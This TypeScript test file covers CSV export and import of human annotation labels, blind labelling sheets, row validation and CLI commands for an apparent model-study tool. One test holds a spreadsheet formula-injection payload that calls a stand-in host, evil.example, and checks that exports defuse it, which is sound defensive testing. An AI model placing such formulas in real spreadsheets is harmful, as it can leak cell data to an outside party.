/**
 * Mechanism labels as CSV and the five mechanism commands (parts 7 and 8): human labels
 * round-trip through CSV between workspaces, a blind sheet lists what an annotator has left, a
 * bad file is refused whole with every bad row by line, and the commands drive it all.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createEngine, type Engine } from '../../src/main/engine/engine';
import { exportBundle } from '../../src/main/engine/export/bundle-export';
import { openBundle, readBundle } from '../../src/main/engine/export/bundle-open';
import {
  LabelsImportError,
  exportLabelsCsv,
  importLabelsCsv,
  labelSheetCsv,
} from '../../src/main/engine/export/labels-csv';
import { classifyStudy } from '../../src/main/engine/metajudge/classify-study';
import { findFlippedReps } from '../../src/main/engine/metajudge/flipped';
import {
  flipsWithLabels,
  labellingQueue,
  saveHumanLabel,
} from '../../src/main/engine/metajudge/queue';
import { listStudyLabels } from '../../src/main/engine/store/labels';
import { makeTempDir } from '../helpers/temp-dir';

import { KEY, runStudy } from '../helpers/bundle-study';
import { engineStore } from '../../src/main/engine/engine-store';

describe('labels as CSV and the mechanism commands', () => {
  const dirs = { a: makeTempDir(), b: makeTempDir(), files: makeTempDir() };
  let a: Engine;
  let b: Engine;
  let studyId: string;
  const bundleFile = join(dirs.files.path, 'study.json.gz');

  beforeAll(async () => {
    vi.stubEnv('ANTHROPIC_API_KEY', KEY);
    a = createEngine({ path: dirs.a.path, source: 'flag' });
    b = createEngine({ path: dirs.b.path, source: 'flag' });
    studyId = await runStudy(engineStore(a));
    await classifyStudy(engineStore(a), studyId);
    const [first] = findFlippedReps(engineStore(a), studyId);
    importLabelsCsv(
      engineStore(a),
      `rep_id,annotator,label,sub_mode,rationale\n${first!.repId},ann,over_trust,deference,"defers, plainly"\n`,
    );
    exportBundle(engineStore(a), studyId, bundleFile);
    openBundle(engineStore(b), bundleFile);
  });
  afterAll(() => {
    vi.unstubAllEnvs();
    a.close();
    b.close();
    for (const dir of Object.values(dirs)) dir.remove();
  });

  it('round-trips human labels through CSV and writes a blind sheet', () => {
    const csv = exportLabelsCsv(engineStore(a), studyId);
    expect(csv.split('\r\n')[0]).toBe(
      'rep_id,annotator,label,sub_mode,rationale,source,kind,item_id,judge_id,dataset',
    );
    expect(csv).toContain(
      ',ann,over_trust,deference,"defers, plainly",human:ann,harmful,invoices,deferring,bundle-test',
    );
    engineStore(b).db.prepare(`DELETE FROM mechanism_labels WHERE source LIKE 'human:%'`).run();
    expect(importLabelsCsv(engineStore(b), csv)).toMatchObject({
      imported: 1,
      annotators: ['ann'],
    });
    expect(listStudyLabels(engineStore(b), studyId, ['human:ann'])).toMatchObject([
      { label: 'over_trust', subMode: 'deference', rationale: 'defers, plainly' },
    ]);
    expect(exportLabelsCsv(engineStore(a), studyId, { all: true })).toContain(',diff,harmful,');
    const sheet = labelSheetCsv(engineStore(a), studyId, 'second');
    expect(sheet.trim().split('\r\n')).toHaveLength(4);
    expect(sheet).not.toContain('over_trust');
    const filled = sheet.replace(/,second,,,,/g, ',second,hallucination,,,');
    expect(importLabelsCsv(engineStore(a), filled).imported).toBe(3);
    expect(labelSheetCsv(engineStore(a), studyId, 'second').trim().split('\r\n')).toHaveLength(1);
  });

  it('writes a formula rationale defused and reads it back as written', () => {
    const [first] = findFlippedReps(engineStore(a), studyId);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const cell = `"${formula.replace(/"/g, '""')}"`;
    importLabelsCsv(
      engineStore(a),
      `rep_id,annotator,label,sub_mode,rationale\n${first!.repId},mallory,hallucination,,${cell}\n`,
    );
    const csv = exportLabelsCsv(engineStore(a), studyId, { all: true });
    expect(csv).toContain(`,mallory,hallucination,,"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    engineStore(a).db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
    const rows = csv.split('\r\n').filter((row, index) => index === 0 || row.includes('mallory'));
    importLabelsCsv(engineStore(a), rows.join('\n'));
    expect(listStudyLabels(engineStore(a), studyId, ['human:mallory'])).toMatchObject([
      { rationale: formula },
    ]);
    engineStore(a).db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
  });

  it('rejects a labels file with bad rows whole, every bad row listed by line', () => {
    const [first, second] = findFlippedReps(engineStore(a), studyId);
    const text = [
      'rep_id,annotator,label,sub_mode,rationale',
      `${first!.repId},carol,over_trust,,fine`,
      `nope,carol,over_trust,,`,
      `${second!.repId},carol,better_investigation,,`,
      `${second!.repId},carol,hallucination,deference,`,
      `${first!.repId},carol,hallucination,,again`,
      `${second!.repId},"bad/name",over_trust,,`,
    ].join('\n');
    try {
      importLabelsCsv(engineStore(a), text, 'labels.csv');
      expect.unreachable('the file should be rejected');
    } catch (error) {
      expect(error).toBeInstanceOf(LabelsImportError);
      expect((error as LabelsImportError).message).toBe(
        'labels.csv: 5 bad rows; nothing was imported.',
      );
      expect((error as LabelsImportError).problems).toEqual([
        'line 3: rep nope is not a flipped rep of any study in this workspace',
        'line 4: label "better_investigation" is not a harmful-flip mechanism (over_trust, hallucination, under_investigation)',
        'line 5: sub_mode "deference" is allowed only with over_trust (deference, evidence_reweighting)',
        `line 6: rep ${first!.repId} is labelled by carol again (first on line 2)`,
        'line 7: annotator "bad/name" is not a name (letters, digits, space, ".", "_", "-")',
      ]);
    }
    expect(listStudyLabels(engineStore(a), studyId, ['human:carol'])).toEqual([]);
  });

  it('stores one validated human label from the annotate view and shows all labels for results', () => {
    const [flip] = findFlippedReps(engineStore(a), studyId);
    const repId = flip!.repId;
    expect(labellingQueue(engineStore(a), studyId, 'erin')).toMatchObject({ done: 0, total: 3 });
    expect(() =>
      saveHumanLabel(engineStore(a), { repId, annotator: 'erin', label: 'lucky_deference' }),
    ).toThrow(/not a harmful-flip mechanism/);
    saveHumanLabel(engineStore(a), {
      repId,
      annotator: 'erin',
      label: 'over_trust',
      subMode: 'deference',
    });
    expect(
      labellingQueue(engineStore(a), studyId, 'erin').entries.map((entry) => entry.repId),
    ).not.toContain(repId);
    const listed = flipsWithLabels(engineStore(a), studyId).find((entry) => entry.repId === repId);
    expect(listed?.labels['human:erin']).toEqual({ label: 'over_trust', subMode: 'deference' });
    expect(Object.keys(listed?.labels ?? {})).toEqual(expect.arrayContaining(['diff', 'truth']));
  });

  it('drives the five commands from the command line', async () => {
    const {
      classifyCommand,
      exportBundleCommand,
      openBundleCommand,
      importLabelsCommand,
      exportLabelsCommand,
    } = await import('../../src/main/cli/mechanisms');
    const io = () => {
      const lines = { out: [] as string[], err: [] as string[] };
      return {
        lines,
        io: {
          out: (line: string) => lines.out.push(line),
          err: (line: string) => lines.err.push(line),
        },
      };
    };
    const ws = ['--workspace', dirs.a.path];
    const classified = io();
    expect(
      await classifyCommand.run([studyId.slice(0, 8), '--diff-only', ...ws], classified.io),
    ).toBe(0);
    expect(classified.lines.out.join('\n')).toMatch(
      /3 flipped reps \(3 harmful, 0 helpful\) \[SIMULATED/,
    );
    expect(classified.lines.out.join('\n')).toContain(
      'Diff vs true mechanism: 100.0% over 3 cue-caused flips',
    );
    const file = join(dirs.files.path, 'cli.json.gz');
    const exported = io();
    expect(await exportBundleCommand.run([studyId, '--out', file, ...ws], exported.io)).toBe(0);
    // The key the trajectory printed was redacted when the store wrote it: no warning left.
    expect(exported.lines.out.join('\n')).not.toContain(KEY);
    // Like the other commands, a failure of the work is thrown for runCli to print (exit 1).
    await expect(
      (async () => openBundleCommand.run([file, '--workspace', dirs.b.path], io().io))(),
    ).rejects.toThrow(/--replace/);
    const opened = io();
    expect(
      await openBundleCommand.run([file, '--replace', '--workspace', dirs.b.path], opened.io),
    ).toBe(0);
    expect(opened.lines.out.join('\n')).toBe(
      `Replaced study ${studyId} "bundle study": 6 reps, ${readBundle(file).tables.labels.length} labels.`,
    );
    const sheet = join(dirs.files.path, 'sheet.csv');
    const written = io();
    expect(
      await exportLabelsCommand.run(
        [studyId, '--sheet', 'dora', '--out', sheet, ...ws],
        written.io,
      ),
    ).toBe(0);
    expect(written.lines.out).toEqual([`Wrote 3 rows to ${sheet}.`]);
    writeFileSync(
      sheet,
      readFileSync(sheet, 'utf8').replace(/,dora,,,,/g, ',dora,over_trust,evidence_reweighting,,'),
    );
    const imported = io();
    expect(await importLabelsCommand.run([sheet, ...ws], imported.io)).toBe(0);
    expect(imported.lines.out).toEqual(['Imported 3 labels from dora.']);
    writeFileSync(sheet, 'rep_id,annotator,label\nnope,dora,over_trust\n');
    const rejected = io();
    expect(await importLabelsCommand.run([sheet, ...ws], rejected.io)).toBe(1);
    expect(rejected.lines.err).toEqual([
      `cuelab import-labels: ${sheet}: 1 bad row; nothing was imported.`,
      '  line 2: rep nope is not a flipped rep of any study in this workspace',
    ]);
    const printed = io();
    expect(await exportLabelsCommand.run([studyId, ...ws], printed.io)).toBe(0);
    expect(
      printed.lines.out
        .join('\n')
        .split('\r\n')
        .filter((line) => line.includes(',dora,')),
    ).toHaveLength(3);
  });
});
